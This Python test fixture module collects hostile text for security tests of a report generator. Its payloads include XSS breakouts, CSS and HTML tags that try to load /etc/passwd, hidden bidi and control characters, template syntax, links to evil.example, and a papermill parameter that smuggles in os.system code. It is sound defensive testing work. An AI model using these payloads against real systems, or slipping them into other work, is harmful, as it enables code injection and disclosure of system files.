"""Hostile text: every way a name, title or comment could try to become markup, script, a URL,
a CSS rule, Python code or hidden text. Each test feeds these where data text lands."""

from __future__ import annotations

from pathlib import Path

# Files whose content must never appear in a report (the PDF engines must not read them).
SECRET_FILES = (Path("/etc/passwd"), Path("/etc/hostname"))
# Written by the papermill payload if a parameter ever became code.
PWNED = Path("/tmp/pmaf-security-pwned")

PAYLOADS: dict[str, str] = {
    "issue 8 directorate name": (
        "Adults </style><script>alert(1)</script><iframe src=file:///etc/passwd></iframe>"
    ),
    "title breakout": "</title><script>alert(2)</script>",
    "attribute breakout": '"><img src=x onerror=alert(3)>',
    "single-quoted attribute breakout": "'><svg onload=alert(4)>",
    "javascript link": '<a href="javascript:alert(5)">click</a>',
    "textarea breakout": "</textarea><script>alert(6)</script>",
    "css string breakout": 'x"; } body { background: url(file:///etc/passwd) } .y { content: "',
    "css import": '@import url("file:///etc/passwd"); @import "file:///etc/hostname";',
    "css backslash escapes": 'C:\\Users\\"; } * { display: none } /* \\3c script\\3e',
    "nul byte": "before\x00after",
    "bidi override": "Total \u202egnp.exe\u202c cost",
    "bidi isolates": "\u2066hidden\u2069 and \u2067rtl\u2069 \u202aembed\u202c",
    "c0 controls": "bell\x07 escape\x1b[31m backspace\x08 vt\x0b ff\x0c del\x7f c1\x85",
    "markdown link and image": "[click](javascript:alert(7)) ![x](file:///etc/passwd)",
    "maths delimiters": "$\\unicode{x}$ costs $5 and $$x$$ \\(y\\)",
    "svg foreignObject": (
        "<svg><foreignObject><iframe src=file:///etc/hostname></iframe></foreignObject></svg>"
    ),
    "object and embed": "<object data=file:///etc/passwd></object><embed src=file:///etc/passwd>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=file:///etc/passwd">',
    "base href": '<base href="file:///etc/">',
    "pdf attachment link": '<link rel="attachment" href="file:///etc/passwd">',
    "entities": "&lt;script&gt;alert(8)&lt;/script&gt; &#x3C;b&#x3E; &amp;",
    "comment breakout": "<!-- --><script>alert(9)</script><!--",
    "cdata breakout": "]]><script>alert(10)</script><![CDATA[",
    "template syntax": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} {{ resources }}",
    "spreadsheet formula": '=HYPERLINK("http://evil.example","x")',
    "papermill parameter": '"; __import__("os").system("touch /tmp/pmaf-security-pwned") #\\',
    "style attribute": '<p style="background:url(file:///etc/passwd)">s</p>',
    "data url html": '<a href="data:text/html,<script>alert(11)</script>">d</a>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(12)</script>"></iframe>',
    "event handler in svg": '<svg><animate onbegin="alert(13)" attributeName="x"/></svg>',
    "form action": '<form action="http://evil.example"><input name=a></form>',
    "line breaks": "line one\nline two\r\nline three\rline four",
    "unicode look-alikes": "\uff1cscript\uff1e \u2039script\u203a",
}

# Every payload in one string: what each text field of the poisoned council holds.
ALL_IN_ONE = " | ".join(PAYLOADS.values())

HIDDEN_CHARACTERS = "\x00\x07\x08\x0b\x0c\x1b\x7f\x85\u061c\u202a\u202b\u202c\u202d\u202e" + (
    "\u2066\u2067\u2068\u2069"
)
